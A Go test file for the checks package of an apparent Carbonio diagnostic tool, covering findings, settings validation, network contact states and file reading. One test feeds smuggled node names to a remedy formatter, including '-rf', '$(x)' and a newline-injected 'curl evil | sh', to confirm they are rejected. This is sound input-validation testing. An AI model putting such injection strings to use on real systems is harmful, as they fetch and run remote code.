package checks_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"math"
	"net"
	"net/netip"
	"os"
	"strings"
	"syscall"
	"testing"
	"testing/fstest"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"carbonio-check/checks"
	"carbonio-check/checks/checkstest"
	"carbonio-check/platform"
)

type ask struct {
	Port int `json:"port"`
}

type seen struct {
	Open bool `json:"open"`
}

// ports is a look of the tests.
var ports = &checks.Look[ask, seen]{
	Kind: "port", Timeout: 3 * time.Second,
	Targets: func(s checks.Scope, _ checks.Host) ([]checks.Target[ask], error) {
		if len(s.Vantages) == 0 {
			return nil, errors.New("nobody looks")
		}
		return []checks.Target[ask]{{Name: "svc1", Node: "svc1", Address: "10.0.0.1:9092", Ask: ask{9092}}}, nil
	},
	Observe: func(_ context.Context, _ checks.Host, t checks.Target[ask]) (seen, error) {
		switch t.Ask.Port {
		case 1:
			return seen{}, errors.New("nothing seen")
		case 2:
			return seen{Open: true}, errors.New("broken off")
		}
		return seen{Open: t.Ask.Port == 9092}, nil
	},
}

func entry(id string, looks ...checks.AnyLook) *checks.Check {
	return &checks.Check{ID: id, Title: "t", Why: "w", Manual: "m", Remedy: "r", Sources: []platform.Source{platform.Policy}, Looks: looks}
}

func judge(checks.Scope, checks.Record) ([]checks.Finding, []checks.Cluster) { return nil, nil }

func TestALookIsTypedFromEndToEnd(t *testing.T) {
	plan, err := ports.Plan(checkstest.Scope(checkstest.Node("svc1", "10.0.0.1")), checks.Host{})
	require.NoError(t, err)
	require.Len(t, plan, 1)
	assert.JSONEq(t, `{"port":9092}`, string(plan[0].Target.Ask))
	assert.Equal(t, 3*time.Second, plan[0].Timeout)
	data, err := plan[0].Observe(t.Context(), checks.Host{})
	require.NoError(t, err)
	assert.JSONEq(t, `{"open":true}`, string(data))
	_, err = ports.Plan(checks.Scope{}, checks.Host{})
	require.ErrorContains(t, err, "nobody looks")

	o := checks.Observation{Subject: "m", Kind: "port", Target: plan[0].Target, Vantage: "svc2", Data: data}
	for s := range ports.In(checks.NewRecord([]checks.Observation{o, {Kind: "other"}})) {
		got, ok := s.Got()
		assert.True(t, ok)
		assert.True(t, got.Open)
		assert.Equal(t, 9092, s.Target.Ask.Port)
		assert.Equal(t, "svc2", s.Vantage)
		assert.Zero(t, s.Unseen())
	}
	for range ports.In(checks.NewRecord([]checks.Observation{o, o})) {
		break // a judge may stop
	}
}

// An error beside nothing is nothing seen; beside something it is a part.
func TestWhatWasSeenBeforeAnErrorIsAPart(t *testing.T) {
	for port, want := range map[int]string{1: "", 2: `{"open":true}`} {
		l := *ports
		l.Targets = func(checks.Scope, checks.Host) ([]checks.Target[ask], error) {
			return []checks.Target[ask]{{Name: "x", Ask: ask{port}}}, nil
		}
		plan, err := l.Plan(checks.Scope{}, checks.Host{})
		require.NoError(t, err)
		data, err := plan[0].Observe(t.Context(), checks.Host{})
		require.Error(t, err)
		assert.Equal(t, want, string(data))
	}
}

// sights are what a judge gets of these observations.
func sights(all ...checks.Observation) []checks.Sight[ask, seen] {
	var out []checks.Sight[ask, seen]
	for i := range all {
		all[i].Kind = "port"
	}
	for s := range ports.In(checks.NewRecord(all)) {
		out = append(out, s)
	}
	return out
}

var check = entry("m.port", ports)

// Nothing passes that was not seen whole, and nothing fails that was not seen.
func TestAFindingRestsOnWhatWasSeen(t *testing.T) {
	whole := checks.Observation{Vantage: "n1", Data: json.RawMessage(`{"open":true}`)}
	part := checks.Observation{Vantage: "n1", Data: json.RawMessage(`{"open":true}`), Unseen: &checks.Unseen{Code: checks.TimedOut, Words: "5s"}}
	none := checks.Observation{Vantage: "n1", Unseen: &checks.Unseen{Code: checks.Denied, Words: "not for you"}}
	empty := checks.Observation{Vantage: "n1"}
	altered := checks.Observation{Vantage: "n1", Data: json.RawMessage(`{"open":"perhaps"}`)}
	foreign := checks.Observation{Vantage: "n1", Data: json.RawMessage(`{}`)}
	foreign.Target.Ask = json.RawMessage(`[]`)
	s := sights(whole, part, none, empty, altered, foreign)
	for i, want := range []struct{ pass, fail checks.Status }{
		{checks.Pass, checks.Fail},
		{checks.Unknown, checks.Fail},
		{checks.Unknown, checks.Unknown},
		{checks.Unknown, checks.Unknown},
		{checks.Unknown, checks.Unknown},
		{checks.Unknown, checks.Unknown},
	} {
		pass, fail, warn := check.Pass(s[i], "x", "open"), check.Fail(s[i], "x", "closed"), check.Warn(s[i], "x", "slow")
		assert.Equal(t, want.pass, pass.Status, i)
		assert.Equal(t, want.fail, fail.Status, i)
		assert.Equal(t, want.fail == checks.Unknown, warn.Status == checks.Unknown, i)
		assert.Equal(t, want.fail == checks.Unknown, fail.Defect, "a verdict on nothing is a defect")
	}
	assert.Equal(t, "could not be seen: no response within 5s", check.Pass(s[1], "x", "open").Message)
	assert.Equal(t, "could not be seen: not for you", check.Unseen(s[2], "x").Message)
	assert.Equal(t, checks.Pass, check.Pass(s[1].Proof().Part(), "x", "what was seen is enough").Status)
	assert.Equal(t, checks.Unknown, check.Pass(checks.Proof{}, "x", "nothing").Status)
	assert.Equal(t, checks.Unknown, check.Pass(checks.From("n1"), "x", "nothing").Status)
	assert.Equal(t, checks.Skip, check.Skip(checks.From("n1"), "x", "does not apply").Status)
	assert.Equal(t, checks.Pass, check.Pass(checks.Concluded("n1"), "x", "fine").Status)
}

func TestTogether(t *testing.T) {
	at := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	s := sights(
		checks.Observation{Vantage: "n1", At: at, Took: time.Second, Data: json.RawMessage(`{}`)},
		checks.Observation{Vantage: "n1", At: at.Add(time.Hour), Took: time.Minute, Data: json.RawMessage(`{}`)},
		checks.Observation{Vantage: "n2", Unseen: &checks.Unseen{Code: checks.Interrupted}},
	)
	f := check.Pass(checks.Together(s[:2]...), "x", "both")
	assert.Equal(t, checks.Pass, f.Status)
	assert.Equal(t, "n1", f.Vantage)
	assert.Equal(t, at.Add(time.Hour), f.At)
	assert.Equal(t, time.Minute, f.Took)
	f = check.Pass(checks.Together(s...), "x", "all")
	assert.Equal(t, checks.Unknown, f.Status, "one was not seen")
	assert.True(t, checks.Together(s[:2]...).Whole())
	assert.False(t, checks.Together(s...).Whole())
	assert.Equal(t, "could not be seen: the run was interrupted", f.Message)
	assert.Empty(t, f.Vantage, "from different nodes it is the platform's")
	assert.Equal(t, checks.Fail, check.Fail(checks.Together(s...), "x", "one is wrong").Status)
	assert.Empty(t, check.Pass(checks.Together(s[:1]...).Platform(), "x", "p").Vantage)
	assert.True(t, check.Pass(checks.Together[checks.Proof](), "x", "of nobody").Defect)
}

func TestAFindingIsMadeInSteps(t *testing.T) {
	base := check.Fail(checks.Concluded("n1"), "x", "%d of %d", 1, 2)
	f := base.Saw("a").Wanted("b").With("c", "d").Fix("do").Per(platform.Policy).Needing(checks.PingOf("svc1"), check.On("y"))
	assert.Equal(t, "1 of 2", f.Message)
	assert.Equal(t, map[string]string{"seen": "a", "want": "b", "c": "d"}, f.Evidence)
	assert.Equal(t, "do", f.Remedy)
	assert.Equal(t, []platform.Source{platform.Policy}, f.Sources)
	assert.Equal(t, "network.ping svc1", f.Needs[0].String())
	assert.Equal(t, "m.port y", f.Needs[1].String())
	assert.Empty(t, base.Evidence, "steps leave what they start from as it is")
	assert.Empty(t, base.Needs)
	assert.True(t, base.Stops().Stopped)
	assert.False(t, check.Pass(checks.Concluded("n1"), "x", "p").Stops().Stopped, "what passes has not stopped")
	assert.Equal(t, "m.port", check.On("").String())
	without := check.WithoutAddress(checks.From("n1"), "x", "svc1")
	assert.Equal(t, []checks.Need{checks.LineOf("svc1"), checks.NameOf("svc1")}, without.Needs)
}

func TestARemedyNamesItsNode(t *testing.T) {
	assert.Equal(t, "# on svc1.example.com\n", checks.On("svc1.example.com"))
	for _, name := range []string{"", "-rf", "x\ncurl evil | sh", "a b", "$(x)"} {
		assert.Empty(t, checks.On(name), "%q", name)
	}
}

func TestNeedsNameTheirTargets(t *testing.T) {
	for want, n := range map[string]checks.Need{
		"network.port svc1:9092/tcp": checks.PortOf("svc1", 9092, "tcp"),
		"network.ping svc1":          checks.PingOf("svc1"),
		"hosts.nodes svc1":           checks.LineOf("svc1"),
		"hosts.self svc1":            checks.SelfOf("svc1"),
		"dns.forward svc1":           checks.NameOf("svc1"),
		"dns.resolvers 10.0.0.53":    checks.ResolverOf("10.0.0.53"),
		"dns.resolvers svc1":         checks.ResolversOf("svc1"),
		"system.os svc1":             checks.OSOf("svc1"),
		"kafka.brokers svc1":         checks.BrokerOf("svc1"),
		"zookeeper.mode svc1":        checks.ZooKeeperOf("svc1"),
		"mesh.agent svc1":            checks.AgentOf("svc1"),
		"mesh.leader mesh":           checks.LeaderOf("mesh"),
	} {
		assert.Equal(t, want, n.String())
		assert.Equal(t, want, n.Check()+" "+n.Target())
	}
}

func TestAssembleRefusesABadCatalogue(t *testing.T) {
	good := func() *checks.Module {
		return &checks.Module{Name: "m", Checks: []*checks.Check{entry("m.a", ports), entry("m.b", ports)}, Judge: judge}
	}
	_, err := checks.Assemble(good())
	require.NoError(t, err)
	other := *ports
	setting := &checks.Setting[bool]{Key: "policy.n", Doc: "d"}
	with := func(settings ...checks.AnySetting) func(*checks.Module) {
		return func(m *checks.Module) { m.Settings = settings }
	}
	for want, spoil := range map[string]func(m *checks.Module){
		"the ID is given twice":                      func(m *checks.Module) { m.Checks[1].ID = "m.a" },
		`m: the ID "m2.a" does not begin with "m."`:  func(m *checks.Module) { m.Checks[0].ID = "m2.a" },
		`m: the ID "m." has nothing after the dot`:   func(m *checks.Module) { m.Checks[0].ID = "m." },
		"m.a: has no Title":                          func(m *checks.Module) { m.Checks[0].Title = "" },
		"m.a: has no Why":                            func(m *checks.Module) { m.Checks[0].Why = " " },
		"m.a: has no Manual":                         func(m *checks.Module) { m.Checks[0].Manual = "" },
		"m.a: has no Remedy":                         func(m *checks.Module) { m.Checks[0].Remedy = "" },
		"m.a: has no source":                         func(m *checks.Module) { m.Checks[0].Sources = nil },
		"m.a: a source lacks its title":              func(m *checks.Module) { m.Checks[0].Sources = []platform.Source{{Title: "t"}} },
		"m.a: has no Looks: what is it judged from?": func(m *checks.Module) { m.Checks[0].Looks = nil },
		"m.a: needs itself, in a ring":               func(m *checks.Module) { m.Checks[0].Needs, m.Checks[1].Needs = m.Checks[1:], m.Checks[:1] },
		"m.a: needs a check that m does not":         func(m *checks.Module) { m.Checks[0].Needs = []*checks.Check{entry("m.c", ports)} },
		"m.a: wants a setting that m does not":       func(m *checks.Module) { m.Checks[0].Wants = setting },
		`two looks are of kind "port"`:               func(m *checks.Module) { m.Checks[1].Looks = []checks.AnyLook{&other} },
		`a look cannot be of kind ""`:                func(m *checks.Module) { m.Checks[1].Looks = []checks.AnyLook{&checks.Look[ask, seen]{}} },
		`a look cannot be of kind "plan"`:            func(m *checks.Module) { m.Checks[1].Looks = []checks.AnyLook{&checks.Look[ask, seen]{Kind: "plan"}} },
		`the look "x" lacks Targets`:                 func(m *checks.Module) { m.Checks[1].Looks = []checks.AnyLook{&checks.Look[ask, seen]{Kind: "x"}} },
		`the look "x" lacks Observe`: func(m *checks.Module) {
			m.Checks[1].Looks = []checks.AnyLook{&checks.Look[ask, seen]{Kind: "x", Targets: ports.Targets}}
		},
		"wants one of Judge and Conclude":                 func(m *checks.Module) { m.Judge = nil },
		"m: a setting has neither Key nor Flag":           with(&checks.Setting[bool]{Doc: "d"}),
		"m: the setting policy.x has no Doc":              with(&checks.Setting[bool]{Key: "policy.x"}),
		"m: two settings are called policy.n":             with(setting, &checks.Setting[bool]{Key: "policy.n", Doc: "d"}),
		"m: two settings are called --x":                  with(&checks.Setting[bool]{Flag: "x", Doc: "d"}, &checks.Setting[bool]{Key: "policy.x", Flag: "x", Doc: "d"}),
		"the setting policy.x is a number without bounds": with(&checks.Setting[int]{Key: "policy.x", Doc: "d"}),
		"the setting policy.t is a number without bounds": with(&checks.Setting[platform.Duration]{Key: "policy.t", Doc: "d"}),
		"the setting policy.x has a default that nobody may set: 0 is out of range: want 1 to 2": with(
			&checks.Setting[int]{Key: "policy.x", Doc: "d", Within: checks.Between(1, 2)}),
	} {
		m := good()
		spoil(m)
		_, err := checks.Assemble(m)
		assert.ErrorContains(t, err, want)
	}
	_, err = checks.Assemble(good(), good())
	require.ErrorContains(t, err, `two modules are called "m"`)
}

func TestASuiteKnowsItsParts(t *testing.T) {
	a, b := entry("m.a", ports), entry("m.b", ports)
	setting := &checks.Setting[int]{Key: "policy.n", Doc: "d", Within: checks.Between(0, 1)}
	m := &checks.Module{Name: "m", Checks: []*checks.Check{a, b}, Judge: judge, Settings: []checks.AnySetting{setting}}
	n := &checks.Module{Name: "n", Checks: []*checks.Check{entry("n.a", ports)}, Judge: judge, Settings: []checks.AnySetting{setting}}
	s, err := checks.Assemble(m, n)
	require.NoError(t, err)
	assert.Equal(t, []*checks.Module{m, n}, s.Modules())
	assert.Len(t, s.Checks(), 3)
	assert.Same(t, a, s.Check("m.a"))
	assert.Nil(t, s.Check("m.x"))
	assert.Same(t, m, s.Module(a))
	assert.Nil(t, s.Module(check))
	assert.Len(t, s.Settings(), 1, "one that two share is one")
	assert.Len(t, m.Looks(), 1)
	of := func(subject, kind, data string) error {
		return s.Readable(checks.Observation{Subject: subject, Kind: kind, Data: json.RawMessage(data)})
	}
	require.NoError(t, of("m", "port", `{"open":true}`))
	require.ErrorContains(t, of("m", "port", `{"open":3}`), "unreadable")
	require.ErrorContains(t, of("m", "prot", `{}`), `m has no look "prot"`)
	require.ErrorContains(t, of("x", "port", `{}`), `no subject "x"`)

	newer := checks.Observation{Subject: "m", Kind: "port", Data: json.RawMessage(`{"open":true,"tls":true}`)}
	require.NoError(t, s.Readable(newer), "a newer version may say more")
	require.ErrorContains(t, s.Exact(newer), `unknown field "tls"`)
	newer.Data = json.RawMessage(`{"open":true}`)
	require.NoError(t, s.Exact(newer))
	newer.Target.Ask = json.RawMessage(`{"prot":1}`)
	require.ErrorContains(t, s.Exact(newer), `unknown field "prot"`)
	newer.Kind = "prot"
	require.ErrorContains(t, s.Exact(newer), `m has no look "prot"`)
}

func TestSettings(t *testing.T) {
	mtu := &checks.Setting[int]{Key: "policy.mtu", Default: 1500, Doc: "d", Unit: "bytes", Within: checks.Between(576, 65535)}
	canary := &checks.Setting[bool]{Flag: "canary", Doc: "d"}
	s := checks.Scope{Settings: checks.Settings{}}
	assert.Equal(t, 1500, mtu.In(s))
	assert.False(t, mtu.Given(s))
	mtu.Set(s.Settings, 9000)
	canary.Set(s.Settings, true)
	assert.Equal(t, 9000, mtu.In(s))
	assert.True(t, mtu.Given(s))
	assert.True(t, canary.In(s))
	assert.Equal(t, "--canary", canary.Name())
	assert.Equal(t, "bytes", mtu.About().Unit)

	v, err := mtu.Decode(checkstest.Strict([]byte("1400")))
	require.NoError(t, err)
	assert.Equal(t, 1400, v)
	_, err = mtu.Decode(checkstest.Strict([]byte("-5")))
	require.EqualError(t, err, "policy.mtu: -5 is out of range: want 576 to 65535")
	_, err = mtu.Decode(checkstest.Strict([]byte(`"big"`)))
	require.Error(t, err)

	login := checks.LoginSetting("logins.x", "d", "s")
	require.NoError(t, login.Check(platform.Login{}), "it may be left out")
	require.EqualError(t, login.Check(platform.Login{User: "x"}), "password: want one of env (the name of a variable) and file (a path)")
	require.EqualError(t, login.Check(platform.Login{Password: platform.SecretRef{Env: "X"}}), "user is missing")
	token := checks.SecretSetting("logins.t", "d", "s")
	require.NoError(t, token.Check(platform.SecretRef{}))
	require.Error(t, token.Check(platform.SecretRef{Env: "X", File: "y"}))

	share := &checks.Setting[float64]{Key: "policy.share", Doc: "d", Within: checks.Between(0.0, 100.0)}
	for _, v := range []float64{math.NaN(), math.Inf(1), -0.1} {
		_, err := share.Decode(func(into any) error { *into.(*float64) = v; return nil })
		require.ErrorContains(t, err, "want 0 to 100", "what is no number is outside")
	}
	assert.Equal(t, "0 to 100", share.About().Bounds)
	require.NoError(t, checks.Profiles.Check(platform.Profiles))
	require.Error(t, checks.Profiles.Check([]platform.Profile{{MemoryGB: math.NaN()}}))
}

func TestScope(t *testing.T) {
	s := checkstest.Scope(checkstest.Node("svc1", "10.0.0.1", platform.Kafka))
	assert.Equal(t, "svc1", s.Self().Node)
	assert.Equal(t, platform.Newest, s.Vantage("svc1").Release)
	s.Release = platform.R25_6
	assert.Equal(t, platform.R25_6, s.Vantage("elsewhere").Release, "who is not known has the platform's")
	assert.True(t, s.Node("svc1").Has(platform.Kafka))
	assert.Equal(t, platform.Node{Name: "x"}, s.Node("x"))
	assert.Zero(t, checks.Scope{}.Self())
	for id, family := range map[string]string{"ubuntu": "ubuntu", "debian": "ubuntu", "rocky": "rhel", "arch": "arch"} {
		assert.Equal(t, family, checks.OS{ID: id}.Family())
	}
}

// Each reason in words, in one place.
func TestUnseenInWords(t *testing.T) {
	for want, u := range map[string]checks.Unseen{
		checks.ErrNoAddress.Error():                                   {Code: checks.NoAddress},
		"no response within 5s":                                       {Code: checks.TimedOut, Words: "5s"},
		"no response within the time-out":                             {Code: checks.TimedOut},
		"the deadline of the run had passed":                          {Code: checks.RunOver},
		"the run was interrupted":                                     {Code: checks.Interrupted},
		"this machine was too busy: x":                                {Code: checks.Starved, Words: "x"},
		"not looked at: nothing at this address had responded before": {Code: checks.HostSilent},
		"boom":   {Code: checks.Failed, Words: "boom"},
		"denied": {Code: checks.Denied},
	} {
		assert.Equal(t, want, u.String())
	}
}

func TestWhyAnErrorIsNothingSeen(t *testing.T) {
	for code, err := range map[checks.Code]error{
		checks.NoAddress:   fmt.Errorf("look: %w", checks.ErrNoAddress),
		checks.Interrupted: context.Canceled,
		checks.TimedOut:    fmt.Errorf("read: %w", context.DeadlineExceeded),
		checks.Starved:     &net.OpError{Op: "dial", Err: os.NewSyscallError("socket", syscall.EMFILE)},
		checks.Denied:      &fs.PathError{Op: "open", Path: "x", Err: syscall.EACCES},
		checks.Failed:      errors.New("boom"),
	} {
		assert.Equal(t, code, checks.Why(err).Code, err)
	}
	assert.Zero(t, checks.Why(nil))
}

// How a contact ended is the peer's; what is ours is an error.
func TestContacts(t *testing.T) {
	ctx := t.Context()
	gone, cancel := context.WithCancel(ctx)
	cancel()
	late, stop := context.WithTimeout(ctx, -time.Second)
	defer stop()
	op := func(errno error) error { return &net.OpError{Op: "dial", Err: os.NewSyscallError("connect", errno)} }
	rejected := &checks.RejectedError{By: netip.MustParseAddr("10.0.0.1"), Reason: "port unreachable", Err: op(syscall.ECONNREFUSED)}
	for _, tt := range []struct {
		ctx   context.Context
		err   error
		want  checks.State
		words string
	}{
		{ctx, nil, checks.Open, ""},
		{ctx, op(syscall.ECONNREFUSED), checks.Refused, "refuses connections: nothing listens on the port"},
		{ctx, op(syscall.ECONNRESET), checks.Refused, "refuses connections: nothing listens on the port"},
		{ctx, op(syscall.EHOSTUNREACH), checks.Unreachable, "is unreachable: no route to host"},
		{ctx, op(syscall.ENETUNREACH), checks.Unreachable, "is unreachable: network is unreachable"},
		{ctx, op(syscall.ETIMEDOUT), checks.Silent, "does not respond"},
		{ctx, os.ErrDeadlineExceeded, checks.Silent, "does not respond"},
		{late, errors.New("whatever"), checks.Silent, "does not respond"},
		{ctx, rejected, checks.Rejected, "is unreachable according to 10.0.0.1: port unreachable"},
	} {
		c, err := checks.Dialled(tt.ctx, tt.err)
		require.NoError(t, err)
		assert.Equal(t, tt.want, c.State, tt.err)
		assert.Equal(t, tt.words, c.String())
	}
	for _, tt := range []struct {
		ctx   context.Context
		err   error
		want  checks.State
		words string
	}{
		{ctx, nil, checks.Open, ""},
		{ctx, io.EOF, checks.HungUp, "accepts connections and closes them without a response"},
		{late, errors.New("x"), checks.Mute, "accepts connections but does not respond"},
		{ctx, errors.New("garbage"), checks.Broken, "drops the connection: garbage"},
		{ctx, &net.OpError{Op: "read", Net: "tcp", Source: &net.TCPAddr{Port: 40123}, Err: errors.New("garbage")}, checks.Broken, "drops the connection: garbage"},
	} {
		c, err := checks.Spoken(tt.ctx, tt.err)
		require.NoError(t, err)
		assert.Equal(t, tt.want, c.State, tt.err)
		assert.Equal(t, tt.words, c.String())
	}
	for _, ours := range []func(context.Context, error) (checks.Contact, error){checks.Dialled, checks.Spoken} {
		_, err := ours(gone, op(syscall.ECONNREFUSED))
		require.ErrorIs(t, err, context.Canceled)
		_, err = ours(ctx, op(syscall.EMFILE))
		require.ErrorIs(t, err, syscall.EMFILE)
	}
	_, err := checks.Dialled(ctx, errors.New("no such network"))
	require.Error(t, err, "what nobody knows is not the peer's fault")
	stranger := checks.Contact{State: checks.Stranger, Words: "ZooKeeper server"}
	assert.Equal(t, "responds, but not as a ZooKeeper server", stranger.String())
	assert.True(t, stranger.Reached())
	assert.False(t, checks.Contact{State: checks.Silent}.Reached())
}

func TestReadFile(t *testing.T) {
	h := checks.Host{Files: fstest.MapFS{
		"etc/hosts": {Data: []byte("x")}, "big": {Data: make([]byte, checks.MaxFile+1)}, "etc": {Mode: fs.ModeDir},
	}}
	text, err := h.ReadFile("/etc/hosts")
	require.NoError(t, err)
	assert.Equal(t, "x", text)
	_, err = h.ReadFile("big")
	require.ErrorContains(t, err, "is larger than")
	_, err = h.ReadFile("etc")
	require.ErrorContains(t, err, "not a regular file")
	_, err = h.ReadFile("nowhere")
	require.ErrorIs(t, err, fs.ErrNotExist)
	there, err := h.Exists("/etc/hosts")
	require.NoError(t, err)
	assert.True(t, there)
	there, err = h.Exists("nowhere")
	require.NoError(t, err)
	assert.False(t, there)
}

func TestZextras(t *testing.T) {
	outputs := map[string]string{"su - zextras -c x": "as root", "id -un": "zextras\n", "sh -c x": "as itself"}
	for uid, want := range map[int]string{0: "as root", 1000: "as itself"} {
		h := checks.Host{Run: checkstest.Commands(outputs), Machine: checkstest.Machine{User: uid}}
		shell, err := h.Zextras(t.Context())
		require.NoError(t, err)
		got, err := shell(t.Context(), "x")
		require.NoError(t, err)
		assert.Equal(t, want, got)
	}
	outputs["id -un"] = "nobody"
	_, err := checks.Host{Run: checkstest.Commands(outputs), Machine: checkstest.Machine{User: 1}}.Zextras(t.Context())
	require.ErrorIs(t, err, fs.ErrPermission)
	assert.Equal(t, "x exited with status 3: boom", (&checks.ExitError{Name: "x", Code: 3, Stderr: "boom"}).Error())
	assert.Equal(t, "x exited with status 3", (&checks.ExitError{Name: "x", Code: 3}).Error())
	icmp := &checks.RejectedError{By: netip.MustParseAddr("10.0.0.1"), Reason: "host unreachable", Err: io.EOF}
	require.ErrorIs(t, icmp, io.EOF)
	assert.True(t, strings.HasSuffix(icmp.Error(), "host unreachable, according to 10.0.0.1"))
}
